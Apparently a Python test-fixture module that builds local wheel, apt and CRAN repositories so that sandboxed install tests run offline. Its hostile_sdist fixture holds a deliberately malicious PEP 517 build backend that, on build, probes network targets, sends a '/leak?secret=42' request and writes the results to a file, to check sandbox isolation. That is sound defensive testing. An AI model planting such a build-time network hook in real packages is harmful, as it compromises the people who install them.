"""Tiny package repositories made in the test, so install tests need no network at all.

  wheels           two pure-Python wheels written by hand (a wheel is a zip with METADATA, WHEEL, RECORD):
                   wbdemo-a 1.0 requires wbdemo-b, so resolution through an index is exercised
  simple_index     a PEP 503 simple index over those wheels (and any extra files given), as a folder
  Served           python's http.server over a folder on 127.0.0.1 (a free port), recording the paths asked
  hostile_sdist    an sdist whose build (an in-tree PEP 517 backend, no dependencies) tries to reach places
                   it should not, and writes what happened to /workspace/wbevil-attack.json
  host_address     this machine's own non-loopback address, where it has one
  apt_flat_repo    one real .deb built with dpkg-deb inside the sandbox image, and a flat Packages index
  cran_repo        one R source package built with `R CMD build` inside the sandbox image, indexed with
                   tools::write_PACKAGES
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import threading
import zipfile
from pathlib import Path

WHEELS = {  # distribution -> (version, requirements, module source)
    "wbdemo-a": ("1.0", ["wbdemo-b>=0.5"], "from wbdemo_b import WORD\nVALUE = 'a+' + WORD\n"),
    "wbdemo-b": ("0.5", [], "WORD = 'b'\n"),
}


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def build_wheel(folder: Path, name: str, version: str, requires: list[str], source: str) -> Path:
    module = name.replace("-", "_")
    info = f"{module}-{version}.dist-info"
    files = {
        f"{module}/__init__.py": source.encode(),
        f"{info}/METADATA": ("Metadata-Version: 2.1\n" f"Name: {name}\nVersion: {version}\n"
                             + "".join(f"Requires-Dist: {r}\n" for r in requires)).encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: workbench-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{path},{_record_hash(data)},{len(data)}\n" for path, data in files.items())
    files[f"{info}/RECORD"] = (record + f"{info}/RECORD,,\n").encode()
    target = folder / f"{module}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as whl:
        for path, data in files.items():
            whl.writestr(path, data)
    return target


def wheels(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    built = [build_wheel(folder, name, *spec) for name, spec in WHEELS.items()]
    folder.chmod(0o755)
    return built


def simple_index(root: Path, extra: dict[str, Path] | None = None) -> Path:
    """root/simple/<name>/index.html linking to root/files/<file>#sha256=...; returns root. `extra` adds a
    project (name -> a file already in root/files)."""
    files = root / "files"
    built = wheels(files)
    simple = root / "simple"
    simple.mkdir(parents=True)
    links = []
    for name, whl in [*zip(WHEELS, built, strict=True), *(extra or {}).items()]:
        (simple / name).mkdir()
        digest = hashlib.sha256(whl.read_bytes()).hexdigest()
        (simple / name / "index.html").write_text(
            f'<!DOCTYPE html><html><body><a href="../../files/{whl.name}#sha256={digest}">{whl.name}</a>'
            "</body></html>\n")
        links.append(f'<a href="{name}/">{name}</a>')
    (simple / "index.html").write_text("<!DOCTYPE html><html><body>" + "".join(links) + "</body></html>\n")
    return root


class Served:
    """A folder served over HTTP on the host's loopback, in a thread; `paths` records what was asked."""

    def __init__(self, folder: Path, host: str = "127.0.0.1"):
        self.paths: list[str] = []
        paths = self.paths

        class Handler(http.server.SimpleHTTPRequestHandler):
            def __init__(self, *args, **kwargs):
                super().__init__(*args, directory=str(folder), **kwargs)

            def log_message(self, *args):
                paths.append(self.path)

        self.server = http.server.ThreadingHTTPServer((host, 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


HOSTILE_BACKEND = """
import json, os, socket, urllib.request, zipfile

def _attack():
    found = {}
    for name, (host, port) in TARGETS.items():
        try:
            socket.create_connection((host, port), timeout=3).close()
            found["direct " + name] = "reached"
        except OSError as exc:
            found["direct " + name] = "failed: %s" % exc
        try:
            urllib.request.urlopen("http://%s:%d/leak?secret=42" % (host, port), timeout=5)
            found["proxy " + name] = "reached"
        except Exception as exc:
            found["proxy " + name] = "failed: %s" % exc
    try:
        socket.getaddrinfo("pypi.org", 443)
        found["dns"] = "resolved"
    except OSError as exc:
        found["dns"] = "failed: %s" % exc
    found["interfaces"] = sorted(os.listdir("/sys/class/net"))
    with open("/workspace/wbevil-attack.json", "w") as out:
        json.dump(found, out)

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _attack()
    name = "wbevil-1.0-py3-none-any.whl"
    info = "wbevil-1.0.dist-info/"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
        whl.writestr("wbevil/__init__.py", "VALUE = 'built'\\n")
        whl.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: wbevil\\nVersion: 1.0\\n")
        whl.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        whl.writestr(info + "RECORD", "")
    return name
"""


def hostile_sdist(folder: Path, targets: dict[str, tuple[str, int]]) -> Path:
    """wbevil-1.0.tar.gz: building it tries each target directly and through the proxy, then builds."""
    import io
    import tarfile

    members = {
        "wbevil-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: wbevil\nVersion: 1.0\n",
        "wbevil-1.0/pyproject.toml": ('[build-system]\nrequires = []\nbuild-backend = "backend"\n'
                                      'backend-path = ["."]\n'),
        "wbevil-1.0/backend.py": f"TARGETS = {targets!r}\n" + HOSTILE_BACKEND,
    }
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / "wbevil-1.0.tar.gz"
    with tarfile.open(target, "w:gz") as tar:
        for name, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    target.chmod(0o644)
    return target


def host_address() -> str | None:
    """This machine's address on its default route (no packet is sent), unless it is loopback."""
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.connect(("192.0.2.123", 9))
        except OSError:
            return None
        address = sock.getsockname()[0]
    return None if address.startswith("127.") else address


def free_port() -> int:
    """A loopback port nothing listens on (bound, then released)."""
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _shell(box, script: str) -> str:
    execution = box.execute("shell", script, timeout=120)
    list(execution)
    result = execution.result()
    assert result.ok, (result.stdout.text(), result.stderr.text())
    return result.stdout.text()


def apt_flat_repo(box, workspace: Path) -> Path:
    """A flat apt repository (Packages at its top, no Release) with one real package, wb-hello 1.0-1."""
    _shell(box, r"""set -e
rm -rf /tmp/pkg /workspace/aptrepo; mkdir -p /tmp/pkg/DEBIAN /tmp/pkg/usr/share/wb-hello /workspace/aptrepo
printf 'Package: wb-hello\nVersion: 1.0-1\nArchitecture: all\nMaintainer: Workbench tests <t@example.invalid>\nDescription: a tiny test package\n' > /tmp/pkg/DEBIAN/control
echo 'hello from wb-hello' > /tmp/pkg/usr/share/wb-hello/hello.txt
dpkg-deb --root-owner-group --build /tmp/pkg /workspace/aptrepo/wb-hello_1.0-1_all.deb >/dev/null
""")
    repo = workspace / "aptrepo"
    deb = repo / "wb-hello_1.0-1_all.deb"
    data = deb.read_bytes()
    control = ("Package: wb-hello\nVersion: 1.0-1\nArchitecture: all\nMaintainer: Workbench tests "
               "<t@example.invalid>\nDescription: a tiny test package\n")
    (repo / "Packages").write_text(control + f"Filename: ./{deb.name}\nSize: {len(data)}\n"
                                   f"SHA256: {hashlib.sha256(data).hexdigest()}\n\n")
    return repo


def cran_repo(box, workspace: Path) -> Path:
    """A CRAN-like repository (src/contrib/PACKAGES) holding one R source package, wbhello 0.1.0."""
    _shell(box, r"""set -e
rm -rf /tmp/src /workspace/cran; mkdir -p /tmp/src/wbhello/R /workspace/cran/src/contrib
cd /tmp/src
printf 'Package: wbhello\nVersion: 0.1.0\nTitle: Tiny Test Package\nDescription: A tiny test package.\nAuthors@R: person("Workbench", "Tests", email = "t@example.invalid", role = c("aut", "cre"))\nLicense: MIT\n' > wbhello/DESCRIPTION
echo 'export(hello)' > wbhello/NAMESPACE
echo 'hello <- function() "hello from wbhello"' > wbhello/R/hello.R
R CMD build --no-build-vignettes --no-manual wbhello >/dev/null
cp wbhello_0.1.0.tar.gz /workspace/cran/src/contrib/
Rscript -e 'tools::write_PACKAGES("/workspace/cran/src/contrib", type = "source")'
""")
    return workspace / "cran"
